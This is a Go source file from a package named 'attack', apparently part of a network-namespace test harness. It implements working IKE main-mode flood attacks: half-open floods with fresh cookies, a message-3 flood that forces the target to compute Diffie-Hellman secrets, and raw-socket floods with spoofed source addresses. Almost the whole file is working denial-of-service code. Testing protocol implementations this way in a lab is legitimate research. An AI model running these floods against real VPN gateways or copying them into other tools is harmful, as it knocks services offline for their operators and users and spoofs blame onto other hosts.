package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/sys/unix"

	"github.com/getlab/getlab/harness/nsdo"
)

// UDP opens a UDP socket bound to local inside the network namespace at
// nsPath ("" for the caller's own). Port 0 picks a free port.
func UDP(nsPath string, local netip.AddrPort) (*net.UDPConn, error) {
	var conn *net.UDPConn
	err := in(nsPath, func() error {
		c, err := net.ListenUDP("udp4", net.UDPAddrFromAddrPort(local))
		if err != nil {
			return err
		}
		// Floods bring back as many replies as they send.
		_ = c.SetReadBuffer(4 << 20)
		conn = c
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("attack: udp socket on %s: %w", local, err)
	}
	return conn, nil
}

// in runs fn in the network namespace at nsPath, or in the caller's own
// for "": sockets opened there keep that namespace.
func in(nsPath string, fn func() error) error {
	if nsPath == "" {
		return fn()
	}
	return nsdo.Do(nsPath, fn)
}

// pacer spaces n sends at rate per second (0: no spacing), catching up in
// bursts when the sender falls behind, so the average rate is exact.
type pacer struct {
	start time.Time
	rate  int
}

func (p pacer) wait(ctx context.Context, i int) error {
	if p.rate <= 0 {
		return ctx.Err()
	}
	due := p.start.Add(time.Duration(float64(i) / float64(p.rate) * float64(time.Second)))
	if d := time.Until(due); d > 0 {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(d):
		}
	}
	return nil
}

// SendAll sends every case to to, at rate datagrams per second (0: as fast
// as the socket takes them), and returns how many were sent.
func SendAll(ctx context.Context, conn *net.UDPConn, to netip.AddrPort, cases []Case, rate int) (int, error) {
	p := pacer{start: time.Now(), rate: rate}
	for i, c := range cases {
		if err := p.wait(ctx, i); err != nil {
			return i, err
		}
		if _, err := conn.WriteToUDPAddrPort(c.Bytes, to); err != nil {
			return i, fmt.Errorf("attack: send %q: %w", c.Name, err)
		}
	}
	return len(cases), nil
}

// FloodStats is what a flood sent and what came back.
type FloodStats struct {
	// Message1 counts main-mode message 1s sent, each with a new cookie.
	Message1 uint64
	// Message2 counts the message 2s received: exchanges the target
	// opened (or answered statelessly).
	Message2 uint64
	// Message3 counts the message 3s sent, one per message 2.
	Message3 uint64
	// Message4 counts the message 4s received: each means the target
	// computed a Diffie-Hellman shared secret for the attacker.
	Message4 uint64
	// Notifies counts plaintext notifications received, by type.
	Notifies map[uint16]uint64
	// Other counts replies that are none of these.
	Other uint64
	// Elapsed is how long the flood ran.
	Elapsed time.Duration
}

func (s FloodStats) String() string {
	return fmt.Sprintf("mm1 sent=%d mm2 recv=%d mm3 sent=%d mm4 recv=%d notifies=%v other=%d in %v",
		s.Message1, s.Message2, s.Message3, s.Message4, s.Notifies, s.Other, s.Elapsed.Round(time.Millisecond))
}

// HalfOpen sends n main-mode message 1s offering p (or sends them for d,
// whichever ends first; 0 for no limit), each with a new initiator cookie,
// from conn to to at rate per second (0: as fast as possible), and never
// goes on: every one is a half-open exchange the target must keep, answer
// statelessly or refuse. Replies are counted until settle after the last
// send.
func HalfOpen(ctx context.Context, conn *net.UDPConn, to netip.AddrPort, n int, d time.Duration, rate int, p Phase1, settle time.Duration) (FloodStats, error) {
	return flood(ctx, conn, to, n, d, rate, p, false, settle)
}

// Message3 opens exchanges like HalfOpen for d (or n message 1s, whichever
// comes first; n 0 for no limit) and answers every message 2 with a
// message 3 carrying a fresh key-exchange value and nonce: each one asks
// the target for a Diffie-Hellman computation, from a source that holds no
// pre-shared key. A target that looks the key up first does no DH.
func Message3(ctx context.Context, conn *net.UDPConn, to netip.AddrPort, n int, d time.Duration, rate int, p Phase1, settle time.Duration) (FloodStats, error) {
	return flood(ctx, conn, to, n, d, rate, p, true, settle)
}

func flood(ctx context.Context, conn *net.UDPConn, to netip.AddrPort, n int, d time.Duration, rate int, p Phase1, answer bool, settle time.Duration) (FloodStats, error) {
	if n <= 0 && d <= 0 {
		return FloodStats{}, errors.New("attack: a flood needs a count or a duration")
	}
	var (
		m1, m2, m3, m4, other atomic.Uint64
		mu                    sync.Mutex
		notifies              = map[uint16]uint64{}
		answered              sync.Map // initiator cookie -> struct{}: one message 3 per exchange
		stop                  = make(chan struct{})
		readerDone            = make(chan struct{})
	)
	// KE values are expensive to make at flood rates: one is reused, as a
	// flood tool would; the target cannot tell.
	ke := KE(p.Group)
	go func() {
		defer close(readerDone)
		buf := make([]byte, 65535)
		for {
			_ = conn.SetReadDeadline(time.Now().Add(50 * time.Millisecond))
			k, from, err := conn.ReadFromUDPAddrPort(buf)
			if err != nil {
				select {
				case <-stop:
					return
				default:
					continue
				}
			}
			if from.Addr().Unmap() != to.Addr() {
				continue
			}
			h, err := ParseHeader(buf[:k])
			switch {
			case err != nil:
				other.Add(1)
			case h.Exchange == exchInfo:
				if t, ok := NotifyType(buf[:k]); ok {
					mu.Lock()
					notifies[t]++
					mu.Unlock()
				} else {
					other.Add(1)
				}
			case h.Exchange == exchMainMode && h.NextPayload == payloadSA && h.RCookie != [8]byte{}:
				m2.Add(1)
				if _, dup := answered.LoadOrStore(h.ICookie, struct{}{}); answer && !dup {
					if _, err := conn.WriteToUDPAddrPort(MainMode3(h.ICookie, h.RCookie, ke, Nonce()), to); err == nil {
						m3.Add(1)
					}
				}
			case h.Exchange == exchMainMode && h.NextPayload == payloadKE:
				m4.Add(1)
			default:
				other.Add(1)
			}
		}
	}()
	start := time.Now()
	pc := pacer{start: start, rate: rate}
	var sendErr error
	for i := 0; n <= 0 || i < n; i++ {
		if d > 0 && time.Since(start) >= d {
			break
		}
		if err := pc.wait(ctx, i); err != nil {
			sendErr = err
			break
		}
		if _, err := conn.WriteToUDPAddrPort(MainMode1(RandomCookie(), p), to); err != nil {
			if errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
				continue // the attacker's own queue is full: a flood goes on
			}
			sendErr = fmt.Errorf("attack: flood send: %w", err)
			break
		}
		m1.Add(1)
	}
	elapsed := time.Since(start)
	select {
	case <-ctx.Done():
	case <-time.After(settle):
	}
	close(stop)
	<-readerDone
	mu.Lock()
	defer mu.Unlock()
	st := FloodStats{Message1: m1.Load(), Message2: m2.Load(), Message3: m3.Load(), Message4: m4.Load(),
		Notifies: notifies, Other: other.Load(), Elapsed: elapsed}
	if errors.Is(sendErr, context.Canceled) || errors.Is(sendErr, context.DeadlineExceeded) {
		sendErr = nil // the caller ended the flood
	}
	return st, sendErr
}

// SpoofedHalfOpen sends n main-mode message 1s offering p to to through
// the raw socket fd (see Raw), each with a new initiator cookie and a
// source address taken in turn from srcs: the off-path attacker who
// cannot see the answers but can make a responder believe that many
// peers, or one peer it holds a key for, are starting main modes. It
// sends for at most d (0: no limit) at rate per second (0: as fast as
// possible) and returns how many it sent.
func SpoofedHalfOpen(ctx context.Context, fd int, srcs []netip.Addr, to netip.AddrPort, n int, d time.Duration, rate int, p Phase1) (int, error) {
	if len(srcs) == 0 || (n <= 0 && d <= 0) {
		return 0, errors.New("attack: a spoofed flood needs sources and a count or a duration")
	}
	start := time.Now()
	pc := pacer{start: start, rate: rate}
	sent := 0
	for i := 0; n <= 0 || i < n; i++ {
		if d > 0 && time.Since(start) >= d {
			break
		}
		if err := pc.wait(ctx, i); err != nil {
			if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
				err = nil
			}
			return sent, err
		}
		pkt := UDPPacket(srcs[i%len(srcs)], to.Addr(), 848, to.Port(), uint16(i), MainMode1(RandomCookie(), p))
		err := unix.Sendto(fd, pkt, 0, &unix.SockaddrInet4{Addr: to.Addr().As4()})
		switch {
		case err == nil:
			sent++
		case errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN):
			// The attacker's own queue is full: a flood goes on.
		default:
			return sent, fmt.Errorf("attack: spoofed flood send: %w", err)
		}
	}
	return sent, nil
}
